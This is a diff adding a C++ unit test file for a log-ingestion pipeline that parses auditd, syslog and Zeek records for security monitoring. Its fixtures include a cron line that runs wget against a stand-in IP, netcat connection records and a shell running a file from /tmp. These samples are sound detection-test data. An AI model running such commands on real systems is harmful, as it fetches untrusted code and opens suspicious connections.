@@ -1,0 +1,305 @@
+#include "pipeline/input/input.hpp"
+
+#include <gmock/gmock.h>
+
+#include <nlohmann/json.hpp>
+
+#include "pipeline/input/auditd.hpp"
+#include "pipeline/input/syscalls.hpp"
+#include "pipeline/input/syslog.hpp"
+
+namespace fieldwatch::pipeline {
+namespace {
+
+using Json = nlohmann::json;
+using testing::ElementsAre;
+
+struct Read {
+    model::RecordKind kind;
+    std::string device;
+    Timestamp time;
+    std::uint64_t line;
+    Json body;
+
+    Json payload() const { return body["Events"][0]["Payload"][0]; }
+    std::string name() const { return body["Events"][0]["Name"]; }
+};
+
+/// Reads lines; the events they became, without the sigma-events unless asked for.
+std::vector<Read> read(InputFormat format, const std::vector<std::string>& lines, bool sigma = false,
+                       InputOptions options = {.first_year = 2026}) {
+    std::vector<Read> out;
+    const auto reader = make_input_reader(format, options);
+    const RecordSink sink = [&](const model::RecordView& record, std::uint64_t line) {
+        if ((record.kind == model::RecordKind::SigmaEvent) != sigma) return;
+        out.push_back(
+            {record.kind, std::string(record.device), record.received, line, Json::parse(record.body)});
+    };
+    for (std::size_t i = 0; i < lines.size(); ++i) {
+        const auto done = reader->read(lines[i], i + 1, sink);
+        EXPECT_TRUE(done) << lines[i] << ": " << done.error().message;
+    }
+    reader->finish(sink);
+    return out;
+}
+
+TEST(Auditd, PutsTheRecordsOfAnExecTogether) {
+    const auto events = read(
+        InputFormat::Auditd,
+        {R"(node=pi type=SYSCALL msg=audit(1604996384.965:937): arch=c000003e syscall=59 success=yes exit=0 ppid=7 pid=8 auid=1000 uid=1000 comm="dd" exe="/bin/dd" key=(null))",
+         R"(node=pi type=EXECVE msg=audit(1604996384.965:937): argc=3 a0="dd" a1="if=/dev/zero" a2=6F663D2F746D702F6120622063)",
+         R"(node=pi type=CWD msg=audit(1604996384.965:937): cwd="/home/pi")",
+         R"(node=pi type=PROCTITLE msg=audit(1604996384.965:937): proctitle=6464)",
+         R"(node=pi type=SYSCALL msg=audit(1604996385.000:938): arch=c000003e syscall=59 success=yes ppid=8 pid=9 uid=0 exe="/bin/sh")",
+         R"(node=pi type=EXECVE msg=audit(1604996385.000:938): argc=2 a0="sh" a1_len=8 a1[0]=2F746D70 a1[1]=2F78)"});
+    ASSERT_EQ(events.size(), 2u);
+    EXPECT_EQ(events[0].device, "pi");
+    EXPECT_EQ(events[0].line, 2u);
+    EXPECT_EQ(events[0].time.unix_millis(), 1604996384965);
+    EXPECT_EQ(events[0].name(), "ProcessCreate");
+    EXPECT_EQ(events[0].payload()["CommandLine"], "dd if=/dev/zero of=/tmp/a b c");
+    EXPECT_EQ(events[0].payload()["Executable"], "/bin/dd");
+    EXPECT_EQ(events[0].payload()["UserId"], "1000");
+    EXPECT_EQ(events[0].payload()["ExtraDetails"]["WorkingDirectory"], "/home/pi");
+    EXPECT_EQ(events[1].payload()["CommandLine"], "sh /tmp/x");
+    EXPECT_EQ(events[1].payload()["ExtraDetails"]["ParentExecutable"], "/bin/dd");
+}
+
+TEST(Auditd, LeavesOutWhatDidNotSucceedButKeepsConnects) {
+    const auto events = read(
+        InputFormat::Auditd,
+        {R"(type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=59 success=no exit=-2 pid=8 exe="/bin/sh")",
+         R"(type=EXECVE msg=audit(1.000:1): argc=1 a0="x")", R"(type=EOE msg=audit(1.000:1): )",
+         R"(type=SYSCALL msg=audit(2.000:2): arch=c00000b7 syscall=203 success=no exit=-115 pid=8 uid=0 exe="/bin/nc")",
+         R"(type=SOCKADDR msg=audit(2.000:2): saddr=02000050CB0071090000000000000000)",
+         R"(type=SYSCALL msg=audit(3.000:3): arch=x86_64 syscall=connect success=yes pid=8 uid=0 exe="/bin/nc" SYSCALL=connect)",
+         R"(type=SOCKADDR msg=audit(3.000:3): saddr=0A001F90000000002001067C000000000000000000000001)",
+         R"(type=PROCTITLE msg=audit(3.000:3): proctitle="nc")"});
+    ASSERT_EQ(events.size(), 2u);
+    EXPECT_EQ(events[0].payload()["RemoteAddress"], "2001:67c::1");
+    EXPECT_EQ(events[0].payload()["RemotePort"], "8080");
+    EXPECT_EQ(events[1].payload()["RemoteAddress"], "203.0.113.9");
+    EXPECT_EQ(events[1].payload()["Direction"], "Out");
+}
+
+TEST(Auditd, TellsLoginsFromOtherAuthentication) {
+    const auto events = read(
+        InputFormat::Auditd,
+        {R"(type=USER_LOGIN msg=audit(1.000:1): pid=5 uid=0 auid=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=sshd res=failed')",
+         R"(type=USER_AUTH msg=audit(1.000:2): pid=6 uid=0 msg='op=PAM:authentication acct="pi" exe="/usr/bin/sudo" hostname=? addr=? terminal=/dev/pts/0 res=success')",
+         R"(type=USER_LOGIN msg=audit(1.000:3): pid=7 uid=0 msg='op=login id=0 exe="/bin/login" hostname=? addr=? terminal=tty1 res=success')",
+         R"(type=USER_LOGIN msg=audit(1.000:4): pid=8 uid=0 msg='op=login acct=28696E76616C6964207573657229 exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=sshd res=failed')"});
+    ASSERT_EQ(events.size(), 3u);
+    EXPECT_EQ(events[0].payload()["RemoteAddress"], "203.0.113.9");
+    EXPECT_EQ(events[0].payload()["Result"], "Fail");
+    EXPECT_FALSE(events[1].payload().contains("RemoteAddress"));
+    EXPECT_EQ(events[1].payload()["Result"], "Success");
+    EXPECT_EQ(events[2].payload()["UserName"], "(invalid user)");
+}
+
+TEST(Auditd, GivesEachRecordToRulesWithItsOwnFields) {
+    const auto events = read(
+        InputFormat::Auditd,
+        {R"(type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=319 success=yes a0=7ffd exe="/usr/bin/x" comm=6120 key="k" )"
+         "\x1d"
+         R"(ARCH=x86_64 AUID="root")"},
+        true);
+    ASSERT_EQ(events.size(), 1u);
+    const auto& fields = events[0].body["fields"];
+    EXPECT_EQ(events[0].body["logsource"]["service"], "auditd");
+    EXPECT_EQ(fields["type"], "SYSCALL");
+    EXPECT_EQ(fields["SYSCALL"], "memfd_create");
+    EXPECT_EQ(fields["a0"], "7ffd");
+    EXPECT_EQ(fields["comm"], "a ");
+    EXPECT_EQ(fields["AUID"], "root");
+}
+
+TEST(Auditd, KnowsSystemCallsByArchitecture) {
+    EXPECT_EQ(syscall_name("c000003e", 59), "execve");
+    EXPECT_EQ(syscall_name("c00000b7", 221), "execve");
+    EXPECT_EQ(syscall_name("40000028", 11), "execve");
+    EXPECT_EQ(syscall_name("40000003", 362), "connect");
+    EXPECT_EQ(syscall_name("c000003e", 9999), "");
+    EXPECT_EQ(syscall_name("nonsense", 59), "");
+}
+
+TEST(Syslog, ReadsEveryFormOfLine) {
+    const auto old = parse_syslog_line("Mar  7 13:06:56 ip-10-77 sshd[1291]: Server listening", 2017);
+    ASSERT_TRUE(old);
+    EXPECT_EQ(to_iso8601(old->time, 0), "2017-03-07T13:06:56Z");
+    EXPECT_EQ(old->host, "ip-10-77");
+    EXPECT_EQ(old->program, "sshd");
+    EXPECT_EQ(old->process_id, 1291);
+    EXPECT_EQ(old->message, "Server listening");
+    const auto fresh = parse_syslog_line(
+        R"(<34>1 2026-10-11T22:14:15.003Z gw.example su 77 ID47 [x@1 a="]\" b"][y] 'su root' failed)", 0);
+    ASSERT_TRUE(fresh);
+    EXPECT_EQ(fresh->host, "gw.example");
+    EXPECT_EQ(fresh->program, "su");
+    EXPECT_EQ(fresh->process_id, 77);
+    EXPECT_EQ(fresh->message, "'su root' failed");
+    const auto iso = parse_syslog_line("2026-01-02T03:04:05.123456+01:00 pi sudo: x", 0);
+    ASSERT_TRUE(iso);
+    EXPECT_EQ(to_iso8601(iso->time, 3), "2026-01-02T02:04:05.123Z");
+    const auto busybox =
+        parse_syslog_line("Jan  1 00:00:12 authpriv.info dropbear[611]: Child connection", 2026);
+    ASSERT_TRUE(busybox);
+    EXPECT_EQ(busybox->host, "");
+    EXPECT_EQ(busybox->program, "dropbear");
+    const auto both = parse_syslog_line("Jan  1 00:00:12 router authpriv.info dropbear[611]: Child", 2026);
+    ASSERT_TRUE(both);
+    EXPECT_EQ(both->host, "router");
+    EXPECT_EQ(both->program, "dropbear");
+    const auto module =
+        parse_syslog_line("Jun 14 15:16:01 combo sshd(pam_unix)[19939]: authentication failure; x", 2005);
+    ASSERT_TRUE(module);
+    EXPECT_EQ(module->program, "sshd");
+    EXPECT_FALSE(parse_syslog_line("hello world", 2026));
+    EXPECT_FALSE(parse_syslog_line("", 2026));
+    EXPECT_FALSE(parse_syslog_line("<999999>x", 2026));
+}
+
+TEST(Syslog, GoesOnIntoTheNextYear) {
+    const auto events = read(InputFormat::Syslog, {"Dec 31 23:59:59 h a: x", "Jan  1 00:00:01 h a: y"}, true);
+    ASSERT_EQ(events.size(), 2u);
+    EXPECT_EQ(to_iso8601(events[1].time, 0), "2027-01-01T00:00:01Z");
+}
+
+struct Case {
+    std::string program, message, user, address;
+    bool success;
+    int times = 1;
+};
+
+TEST(Syslog, UnderstandsTheDaemonsThatLogPeopleIn) {
+    const Case cases[] = {
+        {"sshd", "Accepted publickey for ubuntu from 85.245.107.41 port 54259 ssh2: RSA SHA256:x", "ubuntu",
+         "85.245.107.41", true},
+        {"sshd-session", "Accepted password for pi from 2001:db8::1 port 2 ssh2", "pi", "2001:db8::1", true},
+        {"sshd", "Failed password for invalid user a from b from 203.0.113.9 port 22 ssh2", "a from b",
+         "203.0.113.9", false},
+        {"sshd", "message repeated 4 times: [ Failed password for root from 203.0.113.9 port 22 ssh2]",
+         "root", "203.0.113.9", false, 4},
+        {"sshd",
+         "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
+         "rhost=203.0.113.9  user=root",
+         "root", "203.0.113.9", false},
+        {"dropbear", "Bad password attempt for 'root' from 203.0.113.9:50210", "root", "203.0.113.9", false},
+        {"dropbear", "Login attempt for nonexistent user from 203.0.113.9:50210", "", "203.0.113.9", false},
+        {"dropbear", "Password auth succeeded for 'root' from 203.0.113.9:5", "root", "203.0.113.9", true},
+        {"login", "invalid password for 'admin' on 'pts/0' from '203.0.113.9'", "admin", "203.0.113.9",
+         false},
+        {"login", "root login on 'pts/0' from '203.0.113.9'", "root", "203.0.113.9", true},
+        {"login", "FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure", "root", "", false},
+        {"login", "LOGIN ON tty1 BY pi", "pi", "", true},
+        {"vsftpd", "[ftp] FAIL LOGIN: Client \"::ffff:203.0.113.9\"", "ftp", "203.0.113.9", false},
+    };
+    for (const auto& [program, message, user, address, success, times] : cases) {
+        const auto told = told_login(program, message);
+        ASSERT_TRUE(told) << message;
+        EXPECT_EQ(told->login.user, user) << message;
+        EXPECT_EQ(told->login.address, address) << message;
+        EXPECT_EQ(told->login.success, success) << message;
+        EXPECT_EQ(told->times, times) << message;
+    }
+    for (const auto* message :
+         {"Failed publickey for root from 203.0.113.9 port 1 ssh2",
+          "Failed none for root from 203.0.113.9 port 1 ssh2", "Invalid user a from 203.0.113.9",
+          "Connection closed by 203.0.113.9 port 1 [preauth]",
+          "pam_unix(sshd:session): session opened for user pi by (uid=0)"})
+        EXPECT_FALSE(told_login("sshd", message)) << message;
+    EXPECT_FALSE(told_login("sudo",
+                            "pam_unix(sudo:auth): authentication failure; logname=pi uid=1000 euid=0 "
+                            "tty=/dev/pts/0 ruser=pi rhost=  user=pi"));
+}
+
+TEST(Syslog, CountsAnAttemptOnceThatPamAndTheDaemonTellOf) {
+    const auto events =
+        read(InputFormat::Syslog,
+             {"Mar 27 13:00:00 h sshd[5]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 "
+              "tty=ssh ruser= rhost=203.0.113.9  user=root",
+              "Mar 27 13:00:02 h sshd[5]: Failed password for root from 203.0.113.9 port 22 ssh2",
+              "Mar 27 13:00:04 h sshd[5]: Failed password for root from 203.0.113.9 port 22 ssh2"});
+    EXPECT_EQ(events.size(), 2u);
+}
+
+TEST(Syslog, SeesWhatSudoAndCronRun) {
+    const auto events =
+        read(InputFormat::Syslog,
+             {"Mar 27 13:00:00 h sudo:       pi : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh x.sh -a",
+              "Mar 27 13:00:00 h CRON[77]: (root) CMD (   /usr/bin/wget -q http://203.0.113.9/a)",
+              "Mar 27 13:00:00 h sudo:       pi : command not allowed ; TTY=pts/0 ; COMMAND=/bin/sh"});
+    ASSERT_EQ(events.size(), 2u);
+    EXPECT_EQ(events[0].payload()["CommandLine"], "/bin/sh x.sh -a");
+    EXPECT_EQ(events[0].payload()["ExtraDetails"]["WorkingDirectory"], "/tmp");
+    EXPECT_EQ(events[1].payload()["UserName"], "root");
+}
+
+TEST(Syslog, KeepsAPeerKnownByNameApartAndValid) {
+    const auto events =
+        read(InputFormat::Syslog,
+             {"Jun 14 15:16:01 combo sshd(pam_unix)[1]: authentication failure; logname= uid=0 euid=0 "
+              "tty=NODEVssh ruser= rhost=a.example  user=root"});
+    ASSERT_EQ(events.size(), 1u);
+    EXPECT_EQ(events[0].payload()["ExtraDetails"]["RemoteHost"], "a.example");
+    EXPECT_TRUE(std::string(events[0].payload()["RemoteAddress"]).starts_with("fd66:"));
+}
+
+TEST(Zeek, ReadsTablesAndJson) {
+    const std::string tab = "\t";
+    const auto events =
+        read(InputFormat::Zeek,
+             {"#separator \\x09", "#unset_field\t-", "#path\tconn",
+              "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto",
+              "#types\ttime\tstring\taddr\tport\taddr\tport\tenum",
+              "1300475167.096535\tCx\t192.168.1.5\t49152\t203.0.113.9\t23\ttcp",
+              "1300475168.5\tCy\t203.0.113.9\t1\t192.168.1.5\t22\ttcp", "#close\t2026-01-01-00-00-00"});
+    ASSERT_EQ(events.size(), 2u);
+    EXPECT_EQ(events[0].device, "192.168.1.5");
+    EXPECT_EQ(events[0].time.unix_millis(), 1300475167096);
+    EXPECT_EQ(events[0].payload()["RemotePort"], "23");
+    EXPECT_EQ(events[0].payload()["Direction"], "Out");
+    EXPECT_EQ(events[1].payload()["Direction"], "In");
+    EXPECT_EQ(events[1].device, "192.168.1.5");
+    const auto names = read(
+        InputFormat::Zeek,
+        {R"({"_path":"dns","ts":1300475167.096535,"id.orig_h":"10.0.0.2","id.orig_p":5353,"id.resp_h":"9.9.9.9","id.resp_p":53,"proto":"udp","query":"evil.example"})",
+         R"({"ts":"2026-01-02T03:04:05.5Z","id.orig_h":"10.0.0.2","id.orig_p":1,"id.resp_h":"9.9.9.9","id.resp_p":53,"proto":"udp"})",
+         R"({"_path":"files","ts":1.5,"fuid":"x"})"});
+    ASSERT_EQ(names.size(), 2u);
+    EXPECT_EQ(names[0].payload()["ExtraDetails"]["DnsName"], "evil.example");
+    EXPECT_EQ(names[1].time.unix_millis(), 1767323045500);
+}
+
+TEST(Input, SaysWhatALineCannotBe) {
+    const RecordSink sink = [](const model::RecordView&, std::uint64_t) {};
+    const auto refusal = [&](InputFormat format, std::string_view line) {
+        const auto done = make_input_reader(format, {})->read(line, 1, sink);
+        return done ? std::string("accepted") : done.error().message;
+    };
+    EXPECT_THAT(refusal(InputFormat::Auditd, "hello"),
+                testing::HasSubstr("msg=audit(seconds.millis:serial)"));
+    EXPECT_THAT(refusal(InputFormat::Syslog, "hello"), testing::HasSubstr("ISO 8601"));
+    EXPECT_THAT(refusal(InputFormat::Zeek, "a\tb"), testing::HasSubstr("#fields"));
+    EXPECT_THAT(refusal(InputFormat::JsonLines, "[]"), testing::HasSubstr("object"));
+}
+
+TEST(Input, TellsFormatsApart) {
+    EXPECT_EQ(guess_input_format("type=EXECVE msg=audit(1.000:1): a0=\"x\""), InputFormat::Auditd);
+    EXPECT_EQ(guess_input_format("#separator \\x09"), InputFormat::Zeek);
+    EXPECT_EQ(guess_input_format(R"({"ts":1,"id.orig_h":"10.0.0.1"})"), InputFormat::Zeek);
+    EXPECT_EQ(guess_input_format(R"({"kind":"telemetry"})"), InputFormat::JsonLines);
+    EXPECT_EQ(guess_input_format("Mar 27 13:06:56 h sshd[1]: x"), InputFormat::Syslog);
+    EXPECT_EQ(guess_input_format("what is this"), std::nullopt);
+}
+
+TEST(Input, TurnsBytesThatAreNoTextIntoReplacements) {
+    const auto events =
+        read(InputFormat::Syslog,
+             {"Mar 27 13:06:56 h sshd[1]: Failed password for r\xFFt from 203.0.113.9 port 1 ssh2"});
+    ASSERT_EQ(events.size(), 1u);
+    EXPECT_EQ(events[0].payload()["UserName"], "r\xEF\xBF\xBDt");
+}
+
+}  // namespace
+}  // namespace fieldwatch::pipeline
